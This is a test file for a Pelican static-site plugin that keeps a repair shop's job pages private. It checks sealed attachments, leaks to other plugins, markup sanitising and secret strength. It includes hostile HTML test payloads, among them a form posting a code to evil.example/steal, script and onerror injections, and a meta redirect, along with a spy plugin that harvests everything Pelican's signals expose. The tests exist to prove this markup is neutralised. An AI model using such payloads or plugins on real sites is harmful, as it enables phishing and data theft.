"""Privacy that holds in a real shop's hands: attachments, other plugins, staff markup, the secret,
folder listings, titles. Each test is an everyday action a shop takes, checked from the outside."""

from __future__ import annotations

import io
import json
import os
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest
from PIL import Image

from .images import camera_jpeg
from .sitebuild import (
    BIN,
    PROJECT,
    Server,
    build_site,
    job_keys,
    open_job,
    open_page,
    page_folder,
)

JOB = "J-7"


def job_md(title: str = "MARKERjob Rear brakes", note: str = "Car received.") -> str:
    return (
        f"Title: {title}\nCustomer: MARKERcustomer Popescu\nReceived: 2026-11-20 09:10\n"
        f"Promised: 2026-11-24\n\n## 2026-11-20 09:10 · received\n{note}\n"
    )


def pdf(marker: str) -> bytes:
    """A file whose every 64-byte run is unique to it (random bytes between PDF markers)."""
    return b"%PDF-1.4\n%" + marker.encode() + b"\n" + os.urandom(4000) + b"\n%%EOF\n"


def no_run_of(original: bytes, data: bytes) -> bool:
    return all(original[i : i + 64] not in data for i in range(0, len(original) - 64, 512))


# ---------------------------------------------------------------------- 1. attachments
@pytest.fixture
def attachments():
    return {
        "invoice": pdf("invoice"),
        "plan": pdf("plan"),
        "job-invoice": pdf("job-invoice"),
        "photo": camera_jpeg((900, 600), orientation=6, gps=True, make="MARKERcam"),
    }


def attachment_site(files: dict) -> dict:
    return {
        f"jobs/{JOB}/job.md": job_md(note="Here is the [MARKERinvoice](job-invoice.pdf)."),
        f"jobs/{JOB}/job-invoice.pdf": files["job-invoice"],
        "pages/estimate.md": (
            f"Title: MARKERestimate\nAccess: {JOB}\n\n"
            "[The invoice]({attach}invoice.pdf), [the plan]({static}/images/plan.pdf) and "
            "[a photo of the disc]({attach}disc.jpg).\n"
        ),
        "pages/invoice.pdf": files["invoice"],
        "images/plan.pdf": files["plan"],  # images/ is in STATIC_PATHS: Pelican would copy it
        "pages/disc.jpg": files["photo"],
        "pages/about.md": "Title: About\n\nA public page.\n",
    }


def test_files_a_private_page_links_are_sealed_and_never_copied_in_plain(tmp_path, attachments):
    build = build_site(tmp_path, attachment_site(attachments))
    for path, data in build.all_bytes():
        for name, original in attachments.items():
            assert no_run_of(original, data), f"bytes of {name} in {path}"
        assert b"MARKER" not in data, path
    page = open_page(build, JOB, "pages/estimate.md")
    assert page.files["invoice.pdf"] == attachments["invoice"]
    assert page.files["plan.pdf"] == attachments["plan"]
    # A linked photo is offered upright and without metadata, under its own name.
    disc = Image.open(io.BytesIO(page.files["disc.jpg"]))
    assert disc.size[1] > disc.size[0], "orientation 6 applied: portrait"
    assert not disc.getexif() and "exif" not in disc.info
    assert "invoice.pdf" not in build.read(f"j/{page.slug}/index.html")
    job = open_job(build, JOB)
    assert job.files == {"job-invoice.pdf": attachments["job-invoice"]}
    assert (
        "content/images/plan.pdf: the private page content/pages/estimate.md shows or links it, so "
        "it is published only sealed with that page's job, not as a public file" in build.log
    )
    result = build.check()
    assert result.returncode == 0, result.stderr


def test_a_link_to_a_missing_file_or_another_jobs_file_is_refused_in_one_line(tmp_path):
    other = camera_jpeg((640, 480), make="MARKERother")
    files = {
        f"jobs/{JOB}/job.md": job_md(),
        "jobs/J-8/job.md": job_md(title="Other job"),
        "jobs/J-8/other.jpg": other,
        "pages/estimate.md": (
            f"Title: Estimate\nAccess: {JOB}\n\n[Missing]({{attach}}missing.pdf) and "
            "![The other job](../jobs/J-8/other.jpg) and [its photo]({static}/jobs/J-8/other.jpg)\n"
        ),
    }
    build = build_site(tmp_path, files, fatal=False)
    assert (
        'content/pages/estimate.md: links "{attach}missing.pdf", which does not exist' in build.log
    )
    refused = (
        'content/pages/estimate.md: links "../jobs/J-8/other.jpg", a file of another job or outside '
        "the content folder; left out"
    )
    assert build.log.count(refused) == 2, build.log
    page = open_page(build, JOB, "pages/estimate.md")
    assert page.photos == {} and page.files == {}
    assert "other.jpg" not in page.view and "missing.pdf" not in page.view
    for path, data in build.all_bytes():
        assert no_run_of(other, data), path


@pytest.mark.browser
def test_the_customer_downloads_a_sealed_file_under_its_own_name(tmp_path, attachments, page):
    build = build_site(tmp_path, attachment_site(attachments))
    keys = job_keys(build, JOB)
    opened = open_page(build, JOB, "pages/estimate.md")
    pid = page_folder(build, JOB, "pages/estimate.md")
    with Server(build.output) as server:
        page.goto(f"{server.url}/j/{keys.slug}/{pid}/#{keys.code}")
        page.wait_for_selector("#view:not([hidden])")
        with page.expect_download() as download:
            page.get_by_role("link", name="The invoice").click()
        assert download.value.suggested_filename == "invoice.pdf"
        assert Path(download.value.path()).read_bytes() == attachments["invoice"]
        with page.expect_download() as download:
            page.get_by_role("link", name="a photo of the disc").click()
        assert download.value.suggested_filename == "disc.jpg"
        assert Path(download.value.path()).read_bytes() == opened.files["disc.jpg"]
    assert page.errors == []


# ---------------------------------------------------------------------- 4. other plugins
SPY = '''"""A plugin that records everything Pelican lets a plugin see, through every signal."""
import dataclasses, json, os
from blinker import Signal
from pelican import signals
from pelican.contents import Content
from pelican.generators import ArticlesGenerator, PagesGenerator, StaticGenerator

SEEN = []
LISTS = ("articles", "translations", "drafts", "drafts_translations", "hidden_articles",
         "hidden_translations", "pages", "hidden_pages", "draft_pages", "staticfiles")


def strings(value, depth=0, out=None, seen=None):
    out = [] if out is None else out
    seen = set() if seen is None else seen
    if depth > 5 or id(value) in seen:
        return out
    seen.add(id(value))
    if isinstance(value, (str, bytes, os.PathLike)):
        out.append(os.fsdecode(value) if isinstance(value, os.PathLike) else str(value))
    elif isinstance(value, dict):
        for key, item in value.items():
            strings(key, depth + 1, out, seen)
            strings(item, depth + 1, out, seen)
    elif isinstance(value, (list, tuple, set, frozenset)):
        for item in value:
            strings(item, depth + 1, out, seen)
    elif isinstance(value, Content):
        for name in ("title", "url", "save_as", "source_path", "_content", "metadata"):
            strings(getattr(value, name, None), depth + 1, out, seen)
    elif isinstance(value, (ArticlesGenerator, PagesGenerator, StaticGenerator)):
        for name in LISTS:
            strings(getattr(value, name, None), depth + 1, out, seen)
        strings(value.context, depth + 1, out, seen)
    elif hasattr(value, "context") and isinstance(getattr(value, "context"), dict):
        strings(value.context, depth + 1, out, seen)  # another plugin's generator: its context only
    elif dataclasses.is_dataclass(value) and not isinstance(value, type):
        strings(dataclasses.asdict(value), depth + 1, out, seen)
    return out


def listen(name):
    def receiver(sender, **kwargs):
        SEEN.append({"signal": name, "strings": strings([sender, kwargs])})
    return receiver


def write(pelican):
    with open(os.environ["SPY_FILE"], "w") as handle:
        json.dump(SEEN, handle)


def register():
    for name in dir(signals):
        signal = getattr(signals, name)
        if isinstance(signal, Signal) and name != "finalized":
            signal.connect(listen(name), weak=False)
    signals.finalized.connect(listen("finalized"), weak=False)
    signals.finalized.connect(write, weak=False)
'''


def test_no_other_plugin_sees_a_private_address_or_text(tmp_path, attachments, monkeypatch):
    """pelican-sitemap and pelican-seo installed and enabled, and a spy on every Pelican signal."""
    spy_folder = tmp_path / "spy"
    spy_folder.mkdir()
    (spy_folder / "spy.py").write_text(SPY)
    monkeypatch.setenv("SPY_FILE", str(tmp_path / "spy.json"))
    files = attachment_site(attachments)
    files["articles/private.md"] = (
        f"Title: MARKERarticle\nDate: 2026-11-02\nCategory: MARKERcategory\nTags: MARKERtag\n"
        f"Access: {JOB}\n\nMARKERarticlebody.\n"
    )
    files["articles/public.md"] = "Title: Public post\nDate: 2026-11-01\n\nHello.\n"
    build = build_site(
        tmp_path,
        files,
        {
            "SITEURL": "https://shop.example",
            "AUTHOR": "Bright Garage",  # pelican-seo's article schema needs one
            "PLUGIN_PATHS": [str(PROJECT / "plugins"), str(spy_folder)],
            "PLUGINS": [
                "sitemap",
                "seo",
                "spy",
                "shopwindow.site",
                "shopwindow.testimonials",
                "shopwindow.jobs",
                "shopwindow.cases",
                "shopwindow.access",
            ],
            "SEO_REPORT": True,
            "SEO_ENHANCER": True,
            "SEO_ENHANCER_OPEN_GRAPH": True,
            "SITEMAP": {"format": "xml"},
        },
    )
    slug = job_keys(build, JOB).slug
    sitemap = build.read("sitemap.xml")
    assert "https://shop.example/blog/public-post/" in sitemap, "pelican-sitemap wrote it"
    assert "/j/" not in sitemap and slug not in sitemap
    report = (tmp_path / "seo_report.html").read_text()
    assert "<h2>blog/public-post/</h2>" in report, "pelican-seo analysed the public article"
    assert "MARKER" not in report and slug not in report and "estimate" not in report
    seen = json.loads((tmp_path / "spy.json").read_text())
    assert {"content_written", "article_generator_finalized", "all_generators_finalized"} <= {
        s["signal"] for s in seen
    }
    for call in seen:
        for text in call["strings"]:
            assert "MARKER" not in text and slug not in text, (call["signal"], text[:200])
            # plan.pdf sits in a STATIC_PATHS folder, which Pelican lists before any plugin can act;
            # it is never copied (above). The files beside the private page Pelican never meets.
            assert not text.endswith(("invoice.pdf", "disc.jpg")), (
                call["signal"],
                text,
            )
    for path, data in build.all_bytes():
        assert b"MARKER" not in data, path
        if "/j/" not in str(path):
            assert slug.encode() not in data, path


# ---------------------------------------------------------------------- 5. staff markup
HOSTILE = (
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n'
    '<base href="https://evil.example/">\n'
    '<form action="https://evil.example/steal"><input name="code"><button>Go</button></form>\n'
    '<iframe src="https://evil.example/frame"></iframe>\n'
    '<img src="https://tracker.example/p.gif" alt="tracker"> <img src="x.jpg" onerror="alert(1)">\n'
    '<a href="javascript:alert(1)">click</a> <a href="https://ok.example/" onclick="x()">ok</a>\n'
    "<script>alert(1)</script><style>body{display:none}</style>\n"
    '<svg onload="alert(1)"><circle r="5"/></svg>\n'
    '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">\n\n'
    "Staff keep **bold**, *emphasis*, [links](https://ok.example/a) and lists:\n\n"
    "- one\n- two\n"
)


class Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def elements(view: str) -> list[tuple[str, dict]]:
    parser = Elements()
    parser.feed(view)
    return parser.found


def assert_inert(view: str) -> None:
    found = elements(view)
    live = {
        "meta",
        "base",
        "form",
        "input",
        "button",
        "iframe",
        "script",
        "style",
        "svg",
        "object",
        "embed",
    }
    assert not [tag for tag, _ in found if tag in live], [tag for tag, _ in found if tag in live]
    for tag, attributes in found:
        assert not [a for a in attributes if a.startswith("on")], (tag, attributes)
        for name in ("href", "src"):
            value = (attributes.get(name) or "").strip().lower()
            assert not value.startswith(("javascript:", "data:")), (tag, attributes)
            if tag == "img" and name in attributes:
                assert not value.startswith(("http:", "https:", "//")), (tag, attributes)
    assert "<strong>bold</strong>" in view and "<em>emphasis</em>" in view
    assert '<a href="https://ok.example/a" rel="noopener noreferrer">links</a>' in view
    assert "<li>one</li>" in view


def test_markup_in_staff_notes_and_private_pages_is_inert(tmp_path):
    files = {
        f"jobs/{JOB}/job.md": job_md(note=HOSTILE),
        "pages/note.md": f"Title: A note\nAccess: {JOB}\n\n{HOSTILE}",
    }
    build = build_site(tmp_path, files, fatal=False)
    # In a job's log an image is one of the job's photos: these two are not, and are left out.
    for name in ("https://tracker.example/p.gif", "x.jpg"):
        assert (
            f'content/jobs/{JOB}/job.md: photo "{name}" in "2026-11-20 09:10 · received" does not '
            "exist in the job folder" in build.log
        )
    assert_inert(open_job(build, JOB).view)
    assert_inert(open_page(build, JOB, "pages/note.md").view)


# ---------------------------------------------------------------------- 6. the secret
WEAK = {
    "00" * 32: "is one byte repeated",
    "ab" * 32: "is one byte repeated",
    "0123456789abcdef" * 4: "has only 8 different byte values",
    bytes(range(32)).hex(): "is a counting sequence",
}
MAKE_ONE = 'make a new one with: python3 -c "import secrets; print(secrets.token_hex(32))"'


@pytest.mark.parametrize("secret", sorted(WEAK))
def test_a_secret_without_entropy_is_refused_with_how_to_make_one(tmp_path, monkeypatch, secret):
    monkeypatch.setenv("SHOPWINDOW_SECRET", secret)
    build = build_site(tmp_path, {f"jobs/{JOB}/job.md": job_md()}, fatal=False)
    message = (
        f"SHOPWINDOW_SECRET: the site secret {WEAK[secret]}, so it is not random and anyone could "
        f"guess every job's code; {MAKE_ONE}"
    )
    assert build.returncode != 0 and message in build.log
    assert not (build.output / "j").exists()
    link = subprocess.run(
        [BIN / "shopwindow", "--settings", str(build.conf), "job", "link", JOB],
        capture_output=True,
        text=True,
        cwd=tmp_path,
    )
    assert link.returncode == 2 and message in " ".join(link.stderr.split())


def test_a_weak_secret_file_is_refused_naming_the_file(tmp_path, monkeypatch):
    monkeypatch.delenv("SHOPWINDOW_SECRET", raising=False)
    (tmp_path / "secret").write_text("00" * 32 + "\n")
    build = build_site(tmp_path, {f"jobs/{JOB}/job.md": job_md()}, fatal=False)
    assert f"{tmp_path / 'secret'}: the site secret is one byte repeated" in build.log
    assert not (build.output / "j").exists()


# ---------------------------------------------------------------------- 7. listings
def test_every_folder_of_private_output_has_an_empty_noindex_page(tmp_path, attachments):
    files = {**attachment_site(attachments), f"jobs/{JOB}/lift.jpg": camera_jpeg()}
    build = build_site(tmp_path, files)
    root = build.output / "j"
    folders = [root, *(p for p in root.rglob("*") if p.is_dir())]
    assert len(folders) >= 5, "j/, the job, its page, p/ and f/"
    slug = job_keys(build, JOB).slug
    for folder in folders:
        page = (folder / "index.html").read_text()
        assert '<meta name="robots" content="noindex, nofollow">' in page, folder
        if "shopwindow-lock" not in page:  # not a shell: an empty page
            assert "<body></body>" in page and slug not in page and "href" not in page, folder
    assert "shopwindow-lock" not in (root / "index.html").read_text()


# ---------------------------------------------------------------------- 8. history
def test_the_link_without_the_code_is_offered_for_shared_devices(tmp_path):
    build = build_site(tmp_path, {f"jobs/{JOB}/job.md": job_md()})
    keys = job_keys(build, JOB)
    link = subprocess.run(
        [BIN / "shopwindow", "--settings", str(build.conf), "job", "link", JOB, "--json"],
        capture_output=True,
        text=True,
        cwd=tmp_path,
    )
    data = json.loads(link.stdout)
    assert data["url"].endswith(f"/j/{keys.slug}/#{keys.code}")
    assert data["address"].endswith(f"/j/{keys.slug}/") and "#" not in data["address"]
    ticket = tmp_path / "ticket.html"
    subprocess.run(
        [
            BIN / "shopwindow",
            "--settings",
            str(build.conf),
            "job",
            "ticket",
            JOB,
            "--output",
            ticket,
        ],
        check=True,
        capture_output=True,
        cwd=tmp_path,
    )
    text = ticket.read_text()
    assert data["address"] in text and keys.code_shown in text
    assert "MARKERjob" not in build.read(f"j/{keys.slug}/index.html")
